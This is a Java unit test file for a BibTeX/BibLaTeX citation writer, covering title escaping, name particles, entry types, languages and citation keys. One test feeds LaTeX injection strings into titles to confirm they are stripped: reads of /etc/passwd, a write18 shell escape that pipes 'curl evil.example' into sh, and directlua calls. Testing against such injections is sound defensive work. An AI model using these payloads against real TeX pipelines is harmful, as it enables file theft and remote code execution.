package io.paperwire.citations;

import static io.paperwire.citations.Papers.author;
import static io.paperwire.citations.Papers.paper;
import static io.paperwire.citations.Papers.write;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import io.paperwire.events.Author;
import io.paperwire.events.Link;
import io.paperwire.events.Paper;
import io.paperwire.events.Publication;

class BibtexTest {

    @ParameterizedTest
    @ValueSource(strings = {"\\input{/etc/passwd}", "\\immediate\\write18{curl evil.example|sh}", "\\def\\x{\\x}\\x",
            "\\csname input\\endcsname{a}", "^^5cinput{a}", "\\begin{filecontents}{a}b\\end{filecontents}",
            "\\end{document}", "\\includegraphics{a}", "\\renewcommand{\\alpha}{\\beta}", "\\directlua{os.exit()}",
            "\\catcode`\\a=0", "\\ifx a b\\fi", "\\newwrite\\a", "x_{\\openout3=a}", "\\UseName{input}{/etc/passwd}",
            "\\csuse{input}{/etc/passwd}", "\\ExpandArgs{c}\\typeout{input}", "\\BVerbatimInput{/etc/passwd}",
            "\\filedump offset 0 length 9{/etc/passwd}", "\\typein{yes?}", "\\RenewDocumentCommand\\alpha{}{x}",
            "\\xapptocmd\\alpha{x}{}{}", "\\input\u00e9"})
    void commands_that_are_no_mathematics_are_text(String commands) {
        for (String title : List.of("On $" + commands + "$ and more", "On \\(" + commands + "\\)",
                "$$" + commands + "$$"))
            assertThat(write(CitationFormat.BIBTEX, paper(title).make())).contains("title = {")
                    .doesNotContain(commands);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a \\iff b", "\\csc x + \\csch y", "\\begin{pmatrix*}1 & 2\\end{pmatrix*}",
            "\\begin{cases}1\\end{cases}",
            "\\mathcal{O}(n^{\\epsilon})", "\\cA \\defeq \\operatorname{arg\\,min}", "x \\notin \\{1\\}"})
    void mathematics_stays_as_it_is(String maths) {
        assertThat(write(CitationFormat.BIBTEX, paper("On $" + maths + "$ and more").make()))
                .contains("$" + maths + "$");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"Correia dos Santos|{Correia dos Santos}", "Ramón y Cajal|{Ramón y Cajal}",
            "van der Moss e Fern|van der {Moss e Fern}", "Moss-de Fern|{Moss-de Fern}", "van der Berg|van der Berg",
            "García Márquez|García Márquez", "de la cruz|de la cruz", "Al-moss|Al-moss"})
    void small_words_between_the_others_of_a_family_name_are_no_particles(String family, String tex) {
        for (CitationFormat format : List.of(CitationFormat.BIBTEX, CitationFormat.BIBLATEX))
            assertThat(write(format, paper("Lemurs").authors(author("Ada", family)).make()))
                    .contains("author = {" + tex + ", Ada}");
    }

    @Test
    void a_publisher_stands_where_styles_print_it_once() {
        Publication moss = new Publication(null, null, null, "Moss", null);

        assertThat(write(CitationFormat.BIBTEX, paper("Lemurs").in("report", null, moss).make()))
                .startsWith("@techreport{").contains("institution = {Moss}").doesNotContain("publisher");
        assertThat(write(CitationFormat.BIBTEX, paper("Lemurs").in("report", "Zoo", moss).make()))
                .contains("institution = {Zoo}", "publisher = {Moss}");
        assertThat(write(CitationFormat.BIBLATEX, paper("Lemurs").in("dataset", "Moss", moss).make()))
                .startsWith("@dataset{").contains("publisher = {Moss}").doesNotContain("organization");
    }

    @Test
    void an_article_says_all_that_is_known_of_it() {
        Paper lemurs = paper("Sleep of the mouse lemur").authors(author("Ada", "van der Berg"),
                new Author("Martin King Jr.", "King", "Martin", null, null), new Author("The Lemur Collaboration"))
                .identifiers("arxiv:2401.00001", "doi:10.1000/a_b%c#1").published("2024-03-05").arxivClass("q-bio.NC")
                .in("article-journal", "Sleep & Wake", new Publication("12", "3", "44-51", "Night", "1234-567X"))
                .keywords("lemurs", "sleep, deep").link(Link.Relation.CODE, "https://github.com/example/lemur").make();

        assertThat(write(CitationFormat.BIBTEX, lemurs)).isEqualTo("""
                @article{berg2024sleep,
                  title = {Sleep of the mouse lemur},
                  author = {van der Berg, Ada and King, Jr., Martin and {The Lemur Collaboration}},
                  year = {2024},
                  month = mar,
                  day = {5},
                  journal = {Sleep \\& Wake},
                  volume = {12},
                  number = {3},
                  pages = {44--51},
                  publisher = {Night},
                  issn = {1234-567X},
                  doi = {10.1000/a_b%c#1},
                  eprint = {2401.00001},
                  archiveprefix = {arXiv},
                  primaryclass = {q-bio.NC},
                  url = {https://doi.org/10.1000/a_b%25c%231},
                  url_code = {https://github.com/example/lemur},
                  keywords = {lemurs; sleep, deep;}
                }

                """);
    }

    @Test
    void signs_of_latex_are_commands_and_mathematics_is_left_alone() {
        assertThat(TexText.of("50% of $5 & $O(n^2)$ #1 a_b {x} ~ ^ \\ <i> é--ü"))
                .isEqualTo("50\\% of \\$5 \\& $O(n^2)$ \\#1 a\\_b \\textbraceleft{}x\\textbraceright{}"
                        + " \\textasciitilde{} \\textasciicircum{} \\textbackslash{} \\textless{}i\\textgreater{} é-{}-ü");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$m \\approx k^2 $", "$\\approx$7 times", "$ \\beta \\neq 0, $",
            "$ \\mathrm{rank of all} \\leq 3 $"})
    void a_command_and_no_prose_is_mathematics_whatever_is_beside_its_dollars(String maths) {
        assertThat(TexText.of("needs " + maths + " here")).isEqualTo("needs " + maths + " here");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$ 5 for a bus and $ 6", "$5 with \\emph{all} that is in it for $6", "$ a $"})
    void prose_between_amounts_of_money_is_none(String text) {
        assertThat(TexText.of(text)).startsWith("\\$").doesNotContain("\\emph");
    }

    @Test
    void mathematics_that_would_break_the_entry_is_written_as_text() {
        assertThat(TexText.of("$a}$")).isEqualTo("\\$a\\textbraceright{}\\$");
        assertThat(TexText.of("$\\left\\{a$")).startsWith("\\$").doesNotContain("\\{");
        assertThat(TexText.of("$50%$")).isEqualTo("\\$50\\%\\$");
        assertThat(TexText.of("Costs $$5 and $6 and $$")).isEqualTo("Costs \\$\\$5 and \\$6 and \\$\\$");
        for (String maths : List.of("\\(5 $ a\\)", "\\[5 $ a\\]", "$$5 $ a$$"))
            assertThat(TexText.of(maths).replace("\\$", "")).as(maths).doesNotContain("$");
        for (String maths : List.of("\\(5\\$ a\\)", "\\[a\\]", "$$a$$", "$$5\\$$$"))
            assertThat(TexText.of(maths)).isEqualTo(maths);
    }

    @Test
    void capitals_are_kept_where_a_style_would_lower_them() {
        assertThat(TexText.ofTitle("Learning with Gaussian processes: The case of DNA and $O(N)$ in GPT-4"))
                .isEqualTo("Learning with {Gaussian} processes: The case of {DNA} and {$O(N)$} in {GPT}-4");
        assertThat(TexText.ofTitle("Deep Learning of Lemur Calls by LaTeX"))
                .isEqualTo("Deep Learning of Lemur Calls by {LaTeX}");
        assertThat(TexText.ofTitle("CALLS IN $O(N)$")).isEqualTo("CALLS IN {$O(N)$}");
    }

    @Test
    void the_type_is_that_of_the_publication() {
        assertThat(write(CitationFormat.BIBTEX, paper("A").identifiers("arxiv:2401.00001").make()))
                .startsWith("@misc{");
        assertThat(write(CitationFormat.BIBTEX,
                paper("A").in("paper-conference", "Conference on Lemurs", null).make()))
                .startsWith("@inproceedings{").contains("booktitle = {Conference on Lemurs}");
        assertThat(write(CitationFormat.BIBTEX, paper("A").in(null, "Proceedings of Lemurs", null).make()))
                .startsWith("@inproceedings{");
        assertThat(write(CitationFormat.BIBTEX, paper("A").in("thesis", "University", null).make()))
                .startsWith("@phdthesis{").contains("school = {University}", "type = {Thesis}");
        assertThat(write(CitationFormat.BIBLATEX, paper("A").in("thesis", "University", null).make()))
                .startsWith("@thesis{").contains("institution = {University}", "type = {Thesis}");
        assertThat(write(CitationFormat.BIBTEX, paper("A").in("dataset", "Zoo", null).make())).startsWith("@misc{");
        assertThat(write(CitationFormat.BIBLATEX, paper("A").in("dataset", "Zoo", null).published("2024-03").make()))
                .startsWith("@dataset{").contains("date = {2024-03}").doesNotContain("month");
    }

    @ParameterizedTest
    @CsvSource(nullValues = "-", value = {"Proceedings of the Lemur Society,117,3,1234-567X,article",
            "Proc. Lemur Soc.,117,3,-,article", "Proc. Lemur Soc.,-,-,1234-567X,article",
            "Proc. Lemur Soc.,117,-,-,inproceedings",
            "Proceedings of the Lemur Conference,35,3,1234-567X,inproceedings",
            "Lemur Workshops,35,3,-,inproceedings", "Processes of Sleep,3,-,-,article",
            "Proceedings,-,-,-,inproceedings"})
    void proceedings_with_issues_are_a_journal(String venue, String volume, String issue, String issn, String type) {
        assertThat(write(CitationFormat.BIBTEX,
                paper("A").in(null, venue, new Publication(volume, issue, null, null, issn)).make()))
                .startsWith("@" + type + "{");
    }

    @ParameterizedTest
    @CsvSource({"de,german", "de-AT,german", "en,english", "en-GB,british", "pt-BR,brazilian", "pt,portuguese",
            "sl,slovene", "nb,norsk", "zh-Hant,chinese", "uk,ukrainian"})
    void biblatex_names_a_language_as_babel_does(String tag, String name) {
        Paper lemurs = paper("A").language(tag).make();

        assertThat(write(CitationFormat.BIBLATEX, lemurs)).contains("langid = {" + name + "}")
                .doesNotContain("language =");
        assertThat(write(CitationFormat.BIBTEX, lemurs)).contains("language = {" + tag + "}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"tlh", "und", "x-lemur", "qaa"})
    void biblatex_is_told_no_language_that_babel_does_not_know(String tag) {
        assertThat(write(CitationFormat.BIBLATEX, paper("A").language(tag).make())).doesNotContain("lang");
    }

    @Test
    void a_retraction_or_withdrawal_is_noted() {
        assertThat(write(CitationFormat.BIBTEX, paper("A").retracted().make())).contains("note = {Retracted}");
        assertThat(write(CitationFormat.BIBTEX, paper("A").withdrawn().make())).contains("note = {Withdrawn}");
        assertThat(write(CitationFormat.BIBLATEX, paper("A").retracted().make())).contains("pubstate = {retracted}");
    }

    @Test
    void a_date_is_as_precise_as_it_is_known() {
        assertThat(write(CitationFormat.BIBTEX, paper("A").published("2024").make())).contains("year = {2024}")
                .doesNotContain("month");
        assertThat(write(CitationFormat.BIBTEX, paper("A").published("--03-17").make())).doesNotContain("year",
                "month");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"On $\\mathbb{R}^n$ and lemurs|berg2024lemurs",
            "\\(\\alpha\\) of the $$x$$ mouse|berg2024mouse", "$5 for a lemur|berg20245", "$\\mathcal{O}(n)$|berg2024"})
    void a_key_has_no_word_of_mathematics(String title, String key) {
        assertThat(Citations.key(paper(title).authors("Ada Berg").published("2024").make())).isEqualTo(key);
    }

    @Test
    void the_second_of_two_equal_keys_gets_a_letter_and_no_other_key_changes() {
        Paper one = paper("The calls of lemurs").authors("Ada Müller").published("2024").make();
        Paper other = paper("Calls again").authors("Bo Müller").published("2024").make();
        Paper third = paper("Calls, a").authors("Cy Müller").published("2024").make();

        assertThat(write(CitationFormat.BIBTEX, one, other, third)).contains("{muller2024calls,", "{muller2024callsa,",
                "{muller2024callsb,");
        assertThat(write(CitationFormat.BIBTEX, third)).contains("{muller2024calls,");
        assertThat(write(CitationFormat.BIBTEX, paper("図").authors("李伟").make())).contains("{anonnd1chpkc");
    }
}
